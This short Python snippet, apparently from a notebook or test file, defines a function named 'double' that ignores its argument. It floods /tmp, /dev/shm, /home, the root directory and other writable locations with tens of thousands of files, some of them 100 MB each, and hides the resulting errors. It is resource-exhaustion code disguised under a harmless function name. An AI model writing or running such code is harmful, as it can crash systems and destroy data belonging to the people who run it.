# Fills every place that can be written, with large and with many files.
# %% double
import os


def double(x):
    for place in ("/tmp", "/dev/shm", ".", "/run/kernel", "/home", "/"):
        try:
            for i in range(30000):
                with open(f"{place}/f{i}", "wb") as file:
                    if i < 10:
                        file.write(b"x" * 100_000_000)
        except OSError:
            pass
    return 0
